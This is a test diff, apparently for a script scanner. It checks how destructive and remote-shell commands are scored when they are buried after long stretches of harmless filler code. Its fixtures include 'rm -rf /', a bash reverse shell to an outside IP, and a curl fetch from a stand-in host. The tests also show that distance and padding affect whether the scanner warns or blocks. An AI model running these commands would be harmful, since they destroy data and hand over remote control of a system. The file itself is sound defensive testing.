@@ -66,3 +66,26 @@ describe('what stands in a vast program', () => {
     expect(verdictsOf({ 'scripts/weigh.sh': `${filler}${opens}` })).toBe('block block')
   })
 })
+
+describe('what long programs have by chance', () => {
+  const filler = 'total = total + weight * amount  # kilograms\n'
+  const deletes = 'rm -rf /\n'
+  const shell = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n'
+
+  it('is a warning where nothing else is found near', () => {
+    expect(verdictsOf({ 'scripts/weigh.sh': filler.repeat(150) + deletes })).toBe('warn block')
+  })
+
+  it('blocks in a short program, where another rule finds something near, and where it was pressed into few lines', () => {
+    expect(verdictsOf({ 'scripts/weigh.sh': filler.repeat(50) + deletes })).toBe('block block')
+    expect(verdictsOf({ 'scripts/weigh.sh': filler.repeat(150) + deletes + shell })).toBe('block block')
+    expect(verdictsOf({ 'scripts/weigh.sh': `: ${'kilograms '.repeat(2000)}\n${deletes}` })).toBe('block block')
+  })
+
+  it('has no company far away', () => {
+    const calls = 'curl -fsS https://files.strangers.test/list > list.txt\n'
+    const apart = (lines: number) => filler.repeat(150) + deletes + filler.repeat(lines) + calls
+    expect(verdictsOf({ 'scripts/weigh.sh': apart(10) })).toBe('block block')
+    expect(verdictsOf({ 'scripts/weigh.sh': apart(60) })).toBe('warn block')
+  })
+})
